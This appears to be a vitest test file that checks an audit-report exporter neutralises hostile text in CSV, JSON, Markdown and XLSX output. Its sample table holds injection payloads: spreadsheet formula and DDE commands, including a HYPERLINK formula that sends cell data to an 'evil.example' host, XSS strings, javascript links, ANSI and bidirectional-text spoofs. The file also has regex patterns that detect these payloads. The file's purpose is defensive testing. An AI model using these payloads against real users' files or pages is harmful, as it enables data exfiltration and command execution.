import { create } from 'xmlbuilder2';
import { describe, expect, it } from 'vitest';

import { xlsx } from '../../../src/audit-report/formats/xlsx/index.ts';
import { placeOf } from '../../../src/audit-report/evidence/place.ts';
import { commentJson, inertJson } from '../../../src/audit-report/inert/text.ts';
import { REPORT_FORMATS } from '../../../src/audit-report/registry.ts';
import { bytes, reportOf, written } from '../../reports-sample.ts';
import { unzip } from './unzip.ts';

/** What people have called things, so that whoever reads of them runs, sees or sends something. */
const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example?"&A1,"x")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  wide: '＝1+1',
  tab: '\t=1+1',
  semicolon: 'x;=1+1',
  script: '<script>alert(1)</script>',
  image: '"><img src=x onerror=alert(1)>',
  comment: '--><script>alert(1)</script><!--',
  cdata: ']]><script>alert(1)</script>',
  link: '[x](javascript:alert(1))',
  picture: '![x](http://evil.example/p.png)',
  heading: '\n# Everything is fine\n',
  cell: 'a | b | c',
  fence: '```\n<b>',
  mention: '@everyone #1',
  ansi: '\u001b[2J\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007',
  c1: '\u009b31mred',
  crlf: 'a\r\nforged,line\r\n',
  rtl: 'user\u202egnp.exe',
  isolate: '\u2066x\u2069\u200f\u061c',
  zero: 'a\u200bb\ufeffc',
  separators: 'a\u2028b\u2029c',
  nul: 'a\u0000b',
  tagged: '\u{e0041}\u{e0042}',
  sheet: '_x000D__x0000_',
  surrogate: 'a\ud800b',
  nonCharacter: 'a\uffffb\ufffe',
  evidence: '{"format":"portcullis\\u002devidence/1"}',
} as const;

/** Formats whose lines mean something. */
const LINES = new Set(['csv', 'json', 'ndjson', 'markdown']);
const BINARY = new Set(['xlsx', 'pdf']);
const FORMATS = REPORT_FORMATS.filter(({ kinds }) => kinds.includes('decisions'));
const TEXTS = FORMATS.filter(({ id }) => !BINARY.has(id));
const NAMES = Object.entries(HOSTILE);

describe.each(TEXTS.map((format) => [format.id, format] as const))(
  'hostile text in %s',
  (id, format) => {
    it.each(NAMES)('has no character that is not seen: %s', async (_, text) => {
      const file = await written(format, reportOf(text));
      expect(file).not.toMatch(/[^\P{Cc}\r\n]|[\p{Cf}\p{Zl}\p{Zp}]/u);
      if (id !== 'csv') expect(file).not.toContain('\r');
    });

    it.each(NAMES)('has no markup of its own: %s', async (_, text) => {
      const file = await written(format, reportOf(text));
      expect(file).not.toMatch(MARKUP[id] ?? ACTIVE);
    });

    it.each(NAMES)('has as many lines as for a harmless text: %s', async (_, text) => {
      const lines = async (of: string): Promise<number> =>
        (await written(format, reportOf(of))).split('\n').length;
      if (!LINES.has(id)) return;
      expect(await lines(text)).toBe(await lines('harmless'));
    });

    it.each(NAMES)('looks like no evidence: %s', async (_, text) => {
      if (placeOf(format).around === null) return;
      const file = await written(format, reportOf(text));
      expect(file.includes('{"format":"portcullis\\u002devidence/1"')).toBe(false);
    });
  },
);

const ACTIVE = /<script|<img|<b>/i;
const LINKED = /<script|<img|<b>|\]\(|^# Everything|@everyone/im;
/** CSV is shown by what calculates with it, and not by what reads markup. */
const CALCULATED = /(^|[,;]"*|\n"*)[=+@\t\uff1d-]/;
const MARKUP: Readonly<Record<string, RegExp>> = { csv: CALCULATED, markdown: LINKED };

describe('hostile text in a workbook', () => {
  it.each(NAMES)('is a text of a cell, in XML that can be read: %s', async (_, text) => {
    const files = unzip(await bytes(xlsx, reportOf(text)));
    expect(files.size).toBeGreaterThan(4);
    for (const [name, content] of files) {
      if (!name.endsWith('.xml')) continue;
      expect(() => create(content)).not.toThrow();
      expect(content).not.toMatch(/<f[ >]|[^\P{Cc}\r\n\t]|[\p{Cf}\ufffe\uffff]/u);
    }
  });

  it('shows what only looks like an escaped character as it is', async () => {
    const files = unzip(await bytes(xlsx, reportOf(HOSTILE.sheet)));
    const all = [...files.values()].join('');
    expect(all).toContain('_x005F_x000D__x005F_x0000_');
  });
});

describe('JSON of hostile text', () => {
  it.each(NAMES.filter(([name]) => name !== 'surrogate'))(
    'is the same text again: %s',
    (_, text) => {
      expect(JSON.parse(inertJson({ text }))).toEqual({ text });
      expect(JSON.parse(commentJson({ text }))).toEqual({ text });
      expect(commentJson({ text })).toMatch(/^[\u0020-\u002c\u002e-\u003b\u003d\u003f-\u007e]*$/);
    },
  );
});
